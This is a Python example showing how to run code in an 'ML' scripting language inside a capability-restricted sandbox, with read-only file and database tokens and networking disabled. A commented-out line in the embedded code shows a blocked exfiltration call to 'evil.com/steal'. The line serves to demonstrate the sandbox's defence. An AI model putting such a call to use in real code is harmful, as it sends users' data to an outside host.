def capability_aware_integration():
    """Integrate ML with fine-grained capabilities."""
    from mlpy_async import get_capability_manager
    from mlpy_async import create_capability_token

    manager = get_capability_manager()

    # Define capabilities for ML code
    file_read_token = create_capability_token(
        capability_type="file",
        resource_patterns=["data/*.csv"],
        allowed_operations={"read"},
        description="Read CSV data files"
    )

    db_read_token = create_capability_token(
        capability_type="database",
        resource_patterns=["users", "products"],
        allowed_operations={"read"},
        description="Read database tables"
    )

    # NO write or network access

    # Create context with limited capabilities
    ctx = manager.create_context("ml_data_processing")
    ctx.add_capability(file_read_token)
    ctx.add_capability(db_read_token)

    # Execute ML with restricted access
    from mlpy_async import execute_ml_code_sandbox
    from mlpy_async import SandboxConfig

    ml_code = '''
        import file;
        import db;

        // Can read files and DB
        data = file.read("data/sales.csv");
        users = db.query("SELECT * FROM users");

        // CANNOT write files or access network
        // file.write("data/output.csv", data);  // Would fail
        // http.get("https://evil.com/steal");  // Would fail
    '''

    config = SandboxConfig(
        memory_limit="200MB",
        cpu_timeout=60.0,
        network_disabled=True,
        strict_mode=True
    )

    result, issues = execute_ml_code_sandbox(
        ml_code,
        context=ctx,
        sandbox_config=config,
        strict_security=True
    )

    if result.success:
        print("ML code executed within security boundaries")
    else:
        print(f"Security violation: {result.error}")
